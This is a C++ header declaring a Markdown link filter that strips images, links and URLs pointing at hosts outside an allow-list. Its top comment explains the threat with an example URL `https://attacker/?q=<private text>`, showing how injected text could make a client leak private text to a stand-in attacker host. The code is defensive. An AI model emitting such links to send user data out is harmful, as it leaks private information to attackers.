// Removes exfiltration channels from Markdown text shown to a user (docs/design/answer.md,
// "Links"): an image or link whose URL points at a host not on the allow-list would let
// injected text make the client fetch `https://attacker/?q=<private text>`.
//
// Removed: inline links `[text](url)` (the text is kept), images `![alt](url)` (the alt text is
// kept), reference links `[text][ref]` / `![alt][ref]` and their `[ref]: url` definitions,
// autolinks `<scheme:...>`, bare `http(s)://` and `www.` URLs, HTML `<img>` (dropped) and
// `<a href>` (its text kept). Kept: URLs whose host is allowed, relative URLs (no scheme, no
// `//`) and `mailto:`-free plain text. data:, javascript: and every other scheme are removed.
//
// Host match (after lowercasing ASCII, dropping userinfo, port and a trailing dot): an entry
// `example.com` allows exactly that host; `*.example.com` allows its subdomains (not the apex).
// A host with non-ASCII characters (an IDN not in punycode form) is never allowed, so a
// look-alike cannot pass. Pure functions; thread-safe.
#pragma once

#include <string>
#include <string_view>
#include <vector>

namespace ward::text {

// What was removed, for the record.
struct RemovedLink {
  // "link", "image", "reference", "definition", "autolink", "url", "html_img", "html_link"
  std::string kind;
  std::string url;
  std::string host;  // "" when the URL has none (data:, javascript:, ...)
};

struct FilteredText {
  std::string text;
  std::vector<RemovedLink> removed;
};

// The host of an absolute URL (lowercased ASCII, without userinfo, port or trailing dot), or ""
// when the URL has no host (relative, data:, mailto:, ...).
std::string urlHost(std::string_view url);

// Whether `url` may stay: relative, or http(s)/scheme-relative to an allowed host.
bool linkAllowed(std::string_view url, const std::vector<std::string>& allowed_hosts);

FilteredText filterLinks(std::string_view markdown, const std::vector<std::string>& allowed_hosts);

}  // namespace ward::text
